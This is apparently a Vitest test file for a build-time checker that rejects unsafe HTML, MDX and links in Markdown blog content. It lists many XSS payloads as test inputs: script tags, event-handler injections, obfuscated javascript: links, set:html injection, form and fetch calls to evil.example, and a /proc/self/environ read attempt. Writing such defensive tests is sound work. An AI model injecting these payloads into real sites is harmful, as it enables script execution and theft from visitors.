import { expect, test } from 'vitest';
import { ARTICLE, markdown, problemsWith } from '#tests/support/checked-content.ts';
import { codeProblems, isLink } from './code-problems.ts';
import { readText } from './text-links.ts';

const BELOW = 4;

/** The problems of a text that stands below four lines. */
const problemsOf = (body: string, ending: string) => codeProblems({ file: `a.${ending}`, body, offset: BELOW });

const badLinks = (body: string) => readText(body, false).links.filter(({ address }) => !isLink(address));

test.each([
  ['<script>window.pwned = 3</script>'],
  ['<SCRIPT SRC=//evil.example></SCRIPT>'],
  ['<style>h1 { color: red !important }</style>'],
  ['<iframe srcdoc="<script>top.pwned=8</script>"></iframe>'],
  ['<meta http-equiv=refresh content="0;url=//evil.example">'],
  ['<base href="//evil.example">'],
  ['<form action="https://evil.example"><input name="mot-de-passe"></form>'],
  ['<object data="https://evil.example"></object>'],
  ['<embed src="https://evil.example">'],
  ['<svg><script>pwned()</script></svg>'],
  ['<link rel="stylesheet" href="https://evil.example/a.css">'],
  ['<template><script>pwned()</script></template>'],
  ['<textarea></p><b onfocus=pwned() autofocus>'],
  ['Un <b onclick="pwned()">mot</b>.'],
  ['Un <img src=x onerror=pwned()>.'],
  ['Un <b style="position:fixed">mot</b>.'],
  ['<p title="a"onclick="pwned()">mot</p>'],
  ['<div\nonload="pwned()">\ntexte\n</div>'],
  ['<!--> <script>pwned()</script> -->'],
  ['<!-- --!> <script>pwned()</script> -->'],
])('refuses %j in a text, with its line', (text) => {
  expect(problemsOf(text, 'md')).toEqual([
    expect.objectContaining({ line: BELOW + 1, allowed: expect.stringContaining('du Markdown') as string }),
  ]);
});

test.each([
  ['[ici](javascript:pwned())'],
  ['[ici](JAVASCRIPT:pwned())'],
  ['[ici](&#106;avascript:pwned())'],
  ['[ici](java&#10;script:pwned())'],
  ['[ici](data:text/html,<b>x</b>)'],
  ['[ici](vbscript:pwned())'],
  ['[ici](javascript:{{phone}})'],
  // The text in the file is no link to code; with the value in its place it may be one.
  ['[ici](javascript{{phone}})'],
  ['[ici]({{phone}}{{phone}})'],
  ['[ici]({{phone}}script:pwned())'],
  ['<a href="javascript{{phone}}">ici</a>'],
  ['<javascript:pwned()>'],
  ['[ici][la]\n\n[la]: javascript:pwned()'],
  ['<a href="javascript:pwned()">ici</a>'],
  ["<a href='&#106;avascript:pwned()'>ici</a>"],
  ['<a href="java&Tab;script:pwned()">ici</a>'],
  // A seeming address within a value, or in the text, hides none that is one.
  ['<a title=" href=" href="javascript:pwned()">ici</a>'],
  ['<a title=" href=" href="&#106;avascript:pwned()">ici</a>'],
  ["<p>\nun mot href=' et <a href='javascript:pwned()'>ici</a>\n</p>"],
])('refuses the link %j', (text) => {
  expect([...problemsOf(text, 'md'), ...badLinks(text)]).not.toEqual([]);
});

test.each([
  ['[ici]({{phone}})'],
  ['[ici](mailto:{{phone}})'],
  ['[ici](https://{{phone}}/a)'],
  ['[ici](/images/{{phone}})'],
  ['[ici](#{{phone}})'],
  ['<a href="{{phone}}">ici</a>'],
])('takes the link %j, whose value is looked at where it stands', (text) => {
  expect([...problemsOf(text, 'md'), ...badLinks(text)]).toEqual([]);
});

test.each([
  ['import fs from "node:fs"'],
  ['export const a = fetch("https://evil.example")'],
  ['Un prix de {globalThis.pwned}.'],
  // The backslash takes the grave accent's meaning away: what looks like code is run by the build.
  ['Écrivez \\`{globalThis.pwned = 1}\\` ici.'],
  ['<Note title={globalThis.pwned}>\n\nTexte\n\n</Note>'],
  ['<Note {...globalThis} title="x">\n\nTexte\n\n</Note>'],
  ['<script>pwned</script>'],
  ['<iframe src="https://evil.example" />'],
  ['<b onClick="pwned()">mot</b>'],
  ['<a href={globalThis.pwned}>ici</a>'],
])('refuses %j in a text with parts', (text) => {
  expect(problemsOf(text, 'mdx')).not.toEqual([]);
});

test('refuses in any field the signs by which Astro imports a file', () => {
  const article = markdown({ ...ARTICLE, excerpt: ' __ASTRO_IMAGE_/proc/self/environ?raw&x=.svg' });
  expect(problemsWith({ 'content/blog/essai.md': article })).toContainEqual(
    expect.objectContaining({ found: '« __ASTRO_IMAGE_ »' }),
  );
});

test('refuses a picture whose address nothing can read', () => {
  expect(problemsOf('![Plan](HTTPS://[/plan.png)', 'md')).toHaveLength(1);
});

test('reads code as the compiler does', () => {
  expect(problemsOf('Écrivez \\`{1 + 1}\\` ici.', 'mdx')).toEqual([
    expect.objectContaining({ line: 5, found: '« 1 + 1 »' }),
  ]);
});

test.each([
  ['H<sub>2</sub>O, <kbd>Ctrl</kbd><br>un <abbr title="compte personnel de formation">CPF</abbr>.'],
  ['<!-- à relire -->\n\n<details>\n<summary>Plus</summary>\n\nTexte\n\n</details>'],
  ['Écrivez `<script>`, 3 < 4 et\n\n```html\n<script>pwned()</script>\n```\n'],
  ['[écrire](mailto:bonjour@example.fr), [appeler](tel:+33241000000), <https://example.fr/?a=1&b=2>'],
  ['<a href="https://example.fr/?a=1&amp;b=2">ici</a>'],
])('takes %j', (text) => {
  expect([...problemsOf(text, 'md'), ...badLinks(text)]).toEqual([]);
});

test('stops the build at code, and says how to mend it', () => {
  const text = 'Un mot.\n\n<script>window.pwned = 3</script>\n\n[ici](javascript:pwned())\n';
  const file = 'content/blog/901-essai.md';
  const article = `${markdown({ ...ARTICLE, excerpt: ' java\tscript:pwned()' })}\n\n${text}`;
  const link = expect.stringContaining('https://, mailto: ou tel:') as string;
  expect(problemsWith({ [file]: article })).toEqual([
    expect.objectContaining({ file, line: 12, mend: expect.stringContaining('retirez-la') as string }),
    expect.objectContaining({ file, field: 'excerpt', allowed: link }),
    expect.objectContaining({ file, line: 14, allowed: link }),
  ]);
});

test.each([
  ['Un accent \\`<Note title="Lire" set:html="a<script>document.title=1</script>">a</Note>\\` et la suite.'],
  ['Un accent \\`<Note title="Lire">a</Note>\\` et la suite.'],
  ['``` a <Note title="Lire" set:html="x">a</Note> ``'],
  ['<Note title="Lire" set:html="x">a</Note>'],
  ['<Note title="Lire" client:load="x">a</Note>'],
  ['<CallToAction href="javascript:pwned()" label="Lire">a</CallToAction>'],
  ['<Fragment set:html="<script>pwned()</script>">a</Fragment>'],
  ['\\`<Fragment set:html="<script>pwned()</script>" />\\`'],
  ['<Note.Inner>a</Note.Inner>'],
])('refuses the part %j, which the compiler would take for more than its text says', (text) => {
  expect(problemsOf(text, 'mdx')).toEqual([
    expect.objectContaining({ line: BELOW + 1, allowed: expect.stringContaining('composant') as string }),
  ]);
});

test('takes parts as they are, and those that a text shows as code', () => {
  const shown = 'On écrit `<Note title="x" set:html="y">`.\n\n```\n<Fragment set:html="x" />\n```\n';
  const used = '<Note title="À retenir" tone="attention">\n\nUn texte.\n\n</Note>\n';
  expect(problemsOf(`${shown}\n${used}`, 'mdx')).toEqual([]);
});

test.each(['md', 'mdx'])(
  'reads what looks like front matter once more in a text of .%s, as the build does',
  (ending) => {
    for (const fence of ['---', '+++'])
      expect(problemsOf(`${fence}\n<script src="https://evil.example"></script>\n${fence}\n`, ending)).not.toEqual([]);
  },
);
